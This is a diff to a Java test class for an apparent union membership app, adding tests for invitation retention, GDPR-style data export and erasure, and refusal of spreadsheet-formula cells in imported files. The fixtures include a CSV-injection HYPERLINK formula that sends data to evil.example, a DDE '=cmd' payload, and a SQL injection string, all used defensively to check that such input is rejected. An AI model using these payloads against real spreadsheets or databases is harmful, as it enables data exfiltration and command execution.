@@ -41,9 +41,12 @@ import org.unionhall.domain.account.SignInToken;
 import org.unionhall.domain.mail.MailCategory;
 import org.unionhall.domain.mail.MailStatus;
 import org.unionhall.domain.mail.OutgoingMail;
+import org.unionhall.domain.membership.Invitation;
+import org.unionhall.domain.membership.InvitationStatus;
 import org.unionhall.domain.membership.Member;
 import org.unionhall.domain.membership.MemberId;
 import org.unionhall.domain.membership.MembershipStatus;
+import org.unionhall.domain.privacy.Retention;
 import org.unionhall.domain.shared.AccessDenied;
 import org.unionhall.domain.shared.InvalidInput;
 import org.unionhall.domain.shared.RuleViolation;
@@ -51,6 +54,7 @@ import org.unionhall.infrastructure.crypto.Argon2PasswordHasher;
 import org.unionhall.infrastructure.persistence.JpaInstallations;
 import org.unionhall.infrastructure.persistence.JpaInvitations;
 import org.unionhall.infrastructure.persistence.JpaOutbox;
+import org.unionhall.infrastructure.persistence.JpaPersonalData;
 import org.unionhall.infrastructure.persistence.JpaSignInSessions;
 import org.unionhall.infrastructure.throttle.InMemorySignInThrottle;
 import org.unionhall.testsupport.ManualClock;
@@ -62,8 +66,10 @@ import org.unionhall.testsupport.TestDatabase;
  * expired, withdrawn, reused and forged links are refused with their reason and change nothing;
  * the same link used twice at once makes one account; an address that has an account joins after
  * signing in; a file's rows are checked one by one and the same file imported twice invites
- * nobody twice; a file too long or not UTF-8 is refused with its reason. Each test uses its own
- * people.
+ * nobody twice; a file too long or not UTF-8 is refused with its reason, and cells a spreadsheet
+ * reads as formulas where they enter; settled invitations go after 90 days; a member's data page
+ * shows their invitations and erasing them deletes every invitation that names them. Each test
+ * uses its own people.
  */
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
 @ParameterizedClass(name = "on {0}")
@@ -223,7 +229,7 @@ class InvitationContract {
 
         InvalidInput forged = assertThrows(InvalidInput.class, () -> db.tx(() -> invitations.accept("A".repeat(43),
                 "Mallory", PASSWORD.toCharArray())));
-        assertEquals(org.unionhall.domain.membership.Invitation.NOT_VALID, forged.getMessage());
+        assertEquals(Invitation.NOT_VALID, forged.getMessage());
         assertThrows(InvalidInput.class, () -> db.tx(() -> invitations.open("' OR 1=1 --")));
         assertThrows(InvalidInput.class, () -> db.tx(() -> invitations.open(null)));
 
@@ -407,22 +413,87 @@ class InvitationContract {
     }
 
     @Test
-    void settledInvitationsAreDeletedNinetyDaysLater() throws SQLException {
-        invite("Ola", "ola@union.example");
+    void settledInvitationsAreDeletedNinetyDaysLaterByTheRetentionJob() throws SQLException {
+        invite("Ola", "ola@union.example", "Ona", "ona@union.example");
         String id = db.tx(() -> invitations.pending(steward, chapter, 0, 100)).items().stream()
                 .filter(p -> p.email().equals("ola@union.example")).findFirst().orElseThrow().id();
         db.run(() -> invitations.withdraw(steward, chapter, id));
+        RetentionService retention = new DefaultRetentionService(new JpaPersonalData(db.em()), new TimeSource(clock));
         try {
             clock.advance(Duration.ofDays(89));
-            invite("Pia", "pia@union.example");
-            assertEquals(1, rows("SELECT COUNT(*) FROM invitation WHERE id = '" + id + "'"));
+            db.tx(retention::forgetExpired);
+            assertEquals(1, rows("SELECT COUNT(*) FROM invitation WHERE email = 'ola@union.example'"));
             clock.advance(Duration.ofDays(2));
-            invite("Quinn", "quinn@union.example");
-            assertEquals(0, rows("SELECT COUNT(*) FROM invitation WHERE id = '" + id + "'"));
-            assertEquals(0, rows("SELECT COUNT(*) FROM invitation WHERE email = 'ola@union.example'"));
+            assertTrue(db.tx(retention::forgetExpired).get(Retention.SETTLED_INVITATIONS) >= 1);
+            assertEquals(0, rows("SELECT COUNT(*) FROM invitation WHERE email = 'ola@union.example'"),
+                    "withdrawn 91 days ago");
+            assertEquals(1, rows("SELECT COUNT(*) FROM invitation WHERE email = 'ona@union.example'"),
+                    "expired, still marked pending, 77 days ago");
+            clock.advance(Duration.ofDays(14));
+            db.tx(retention::forgetExpired);
+            assertEquals(0, rows("SELECT COUNT(*) FROM invitation WHERE email = 'ona@union.example'"),
+                    "expired 91 days ago, though nobody marked it so");
         } finally {
             clock.set(START);
         }
+    }
+
+    @Test
+    void cellsASpreadsheetWouldReadAsFormulasAreRefusedWhereTheyEnter() throws SQLException {
+        long invitationsBefore = rows("SELECT COUNT(*) FROM invitation");
+        InvitationBatch preview = db.tx(() -> invitations.previewFile(steward, chapter, utf8("""
+                =HYPERLINK("https://evil.example/?"&A1;formula@union.example
+                +31 Plus;plus@union.example
+                -Minus;minus@union.example
+                @SUM(A1);at@union.example
+                Calc Cell;=1+1@union.example
+                Rae Ready;rae@union.example
+                """)));
+        List<String> problems = preview.rows().stream().map(InvitationRow::problem).toList();
+        for (int row = 0; row < 5; row++) {
+            assertTrue(problems.get(row) != null && problems.get(row).contains("formula"), problems.toString());
+        }
+        assertNull(problems.get(5));
+        assertEquals(1, preview.ready());
+        var lisbon = db.tx(() -> stores.chapters().findBySlug(chapter)).orElseThrow();
+        InvalidInput refused = assertThrows(InvalidInput.class, () -> new Invitation(lisbon, "=cmd|' /C calc'!A0",
+                "cmd@union.example", steward.memberId(), SignInToken.generate(), clock.instant()));
+        assertTrue(refused.getMessage().contains("formula"), refused.getMessage());
+        assertThrows(InvalidInput.class, () -> new Invitation(lisbon, "Ann", "not an address", steward.memberId(),
+                SignInToken.generate(), clock.instant()), "the aggregate refuses what the row check refuses");
+        assertEquals(invitationsBefore, rows("SELECT COUNT(*) FROM invitation"));
+    }
+
+    @Test
+    void aMembersDataPageShowsTheirInvitationsAndErasingThemDeletesEveryInvitationThatNamesThem()
+            throws SQLException {
+        invite("Uma Unger", "uma@union.example");
+        String umaLink = tokenFor("uma@union.example");
+        AcceptedInvitation accepted = db.tx(() -> invitations.accept(umaLink, "Uma U.", PASSWORD.toCharArray()));
+        Actor uma = new Actor(MemberId.of(accepted.memberId()));
+        PrivacyService privacy = new DefaultPrivacyService(stores, new JpaPersonalData(db.em()),
+                new Argon2PasswordHasher(), new InMemorySignInThrottle());
+
+        MyDataView hers = db.tx(() -> privacy.myData(uma));
+        assertEquals(1, hers.invitationsReceived().size());
+        MyDataView.InvitationReceived received = hers.invitationsReceived().get(0);
+        assertEquals("Lisbon", received.chapter());
+        assertEquals("Uma Unger", received.nameGiven());
+        assertEquals("Stella Steward", received.invitedBy());
+        assertEquals(InvitationStatus.ACCEPTED, received.status());
+        assertTrue(MyDataExport.json(hers, clock.instant()).toString().contains("uma@union.example"));
+
+        MyDataView stewards = db.tx(() -> privacy.myData(steward));
+        assertFalse(stewards.invitationsSent().isEmpty(), "the steward sees the invitations they sent");
+        String stewardsExport = MyDataExport.json(stewards, clock.instant()).toString();
+        assertTrue(stewardsExport.contains("invitationsSent"), stewardsExport);
+        assertFalse(stewardsExport.contains("uma@union.example") || stewardsExport.contains("Uma Unger"),
+                "the people a steward invited are not in the steward's export");
+
+        db.tx(() -> privacy.erase(uma, PASSWORD));
+        assertEquals(0, rows("SELECT COUNT(*) FROM invitation WHERE email = 'uma@union.example' "
+                + "OR display_name = 'Uma Unger' OR member_id = '" + accepted.memberId() + "'"),
+                "nothing of the invitation that named her is left");
     }
 
     static InputStream utf8(String text) {
